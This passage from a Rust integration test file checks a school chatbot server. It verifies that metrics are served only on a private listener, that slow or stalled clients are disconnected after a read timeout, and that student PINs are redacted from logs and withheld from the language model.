    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
    assert!(body.contains("CHATBOT_METRICS_LISTEN"), "{body}");

    // Their own listener: there, and only there.
    let app = app
        .restart(|s| s.server.metrics_listen = Some(([127, 0, 0, 1], 0).into()))
        .await;
    let private = app.metrics_addr.expect("a metrics listener");
    let (status, text) = get(&app, format!("http://{private}/metrics"), None).await;
    assert_eq!(status, StatusCode::OK);
    assert!(text.contains("chatbot_"), "{text}");
    let (status, _) = get(&app, format!("http://{private}/healthz"), None).await;
    assert_eq!(
        status,
        StatusCode::NOT_FOUND,
        "the metrics listener serves metrics only"
    );
    let (status, _) = get(&app, app.url("/metrics"), None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    app.stop().await.unwrap();
}

/// Point 13: a client sending its headers a byte at a time, or stopping half-way through a
/// body, is cut off after the read timeout (1 s here) instead of holding the connection; one
/// that never starts is too. A kept-alive connection may pause between requests.
async fn slow_clients_are_cut_off(v: Variant) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let Some(env) = TestEnv::new(v).await else {
        return;
    };
    let mut env = env;
    env.settings.server.request_read_timeout_secs = 1;
    let app = env.start().await;
    // Far longer than the read timeout: how long a client keeps trying before giving up.
    let patience = Duration::from_secs(20);

    // Headers trickling in: the server hangs up (the client never gets to finish them).
    let mut slow = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    slow.write_all(b"POST /api/v1/chatbot/webhooks/whatsapp/ HTTP/1.1\r\nHost: x\r\n")
        .await
        .unwrap();
    let trickle = async {
        for i in 0.. {
            tokio::time::sleep(Duration::from_millis(200)).await;
            if slow
                .write_all(format!("X-{i}: y\r\n").as_bytes())
                .await
                .is_err()
            {
                return "cut off";
            }
            let mut buf = [0u8; 64];
            if let Ok(Ok(0) | Err(_)) =
                tokio::time::timeout(Duration::from_millis(1), slow.read(&mut buf)).await
            {
                return "cut off";
            }
        }
        unreachable!()
    };
    let outcome = tokio::time::timeout(patience, trickle).await;
    assert_eq!(
        outcome,
        Ok("cut off"),
        "headers sent a byte at a time for ever"
    );

    // A body that stops half-way: 408, and the connection closed.
    let mut stalled = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    stalled
        .write_all(
            b"POST /api/v1/chatbot/webhooks/whatsapp/ HTTP/1.1\r\nHost: x\r\n\
              Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"object\":",
        )
        .await
        .unwrap();
    let mut answer = String::new();
    tokio::time::timeout(patience, stalled.read_to_string(&mut answer))
        .await
        .expect("the server answers and closes")
        .unwrap();
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert!(answer.contains("request_timeout"), "{answer}");

    // A connection that never sends a byte is closed.
    let mut silent = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    let mut buf = [0u8; 16];
    let read = tokio::time::timeout(patience, silent.read(&mut buf))
        .await
        .expect("the server hangs up");
    assert!(matches!(read, Ok(0) | Err(_)), "{read:?}");

    // Kept alive: two requests with a pause longer than the read timeout between them.
    let mut kept = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    for _ in 0..2 {
        kept.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
            .await
            .unwrap();
        let mut got = Vec::new();
        while !String::from_utf8_lossy(&got).contains("\"ok\"") {
            let mut buf = [0u8; 1024];
            let n = tokio::time::timeout(patience, kept.read(&mut buf))
                .await
                .unwrap()
                .unwrap();
            assert!(n > 0, "closed: {}", String::from_utf8_lossy(&got));
            got.extend_from_slice(&buf[..n]);
        }
        assert!(got.starts_with(b"HTTP/1.1 200"));
        tokio::time::sleep(Duration::from_millis(2500)).await;
    }
    app.stop().await.unwrap();
}

/// Point 6: a PIN typed out of turn ("my pin is 4821", or the digits alone at the menu) is
/// neither kept in the transcript nor sent to the model, in that turn or in the history of the
/// next one.
async fn pins_are_never_stored_or_sent_to_the_model(v: Variant) {
    use chatbot::entities::message_log;
    use chatbot::llm::mock::{MockLlm, Script};
    let llm = MockLlm::start(
        ([127, 0, 0, 1], 0).into(),
        Script::from_yaml("default: {content: \"I can only help with school matters.\"}").unwrap(),
    )
    .await
    .unwrap();
    let Some(mut env) = TestEnv::new(v).await else {
        return;
    };
    let mock = MockGraph::start(([127, 0, 0, 1], 0).into()).await.unwrap();
    env.settings.whatsapp.api_base = mock.base_url();
    env.settings.llm.base_url = Some(llm.base_url());
    env.settings.llm.model = "mock-1".into();
    let app = env.start().await;
    let creds = demo::seed(&app.state.db, &app.state.secret).await.unwrap();
    let school = &creds.tenants[0];
    let parent = school.parent_with_children(1).unwrap();
    let pin = school.student(&parent.student_ids[0]).unwrap().pin.clone();
    let mut chat = Parent::new(&app, school, &parent.phone);
    chat.says("hi").await;
    for text in [
        format!("my pin is {pin} but the app says wrong, why is that"),
        pin.clone(),
        format!("{pin} is the code they gave me, it does not open the portal"),
        "and what about the sports day".to_string(),
    ] {
        chat.says(&text).await;
    }
    let stored: Vec<String> = message_log::Entity::find()
        .all(&app.state.db)
        .await
        .unwrap()
        .into_iter()
        .map(|m| m.body)
        .collect();
    assert!(
        stored.iter().any(|b| b.contains("[PIN withheld]")),
        "{stored:?}"
    );
    assert!(
        !stored.iter().any(|b| b.contains(&pin)),
        "a PIN kept: {stored:?}"
    );
    let prompts: Vec<String> = llm.requests().iter().map(|r| r.prompt_text()).collect();
    assert!(prompts.len() >= 2, "the model was asked: {}", prompts.len());
    assert!(
        prompts.iter().all(|p| !p.contains(&pin)),
        "a PIN sent to the model"
    );
    app.stop().await.unwrap();
    mock.stop();
    llm.stop();
}
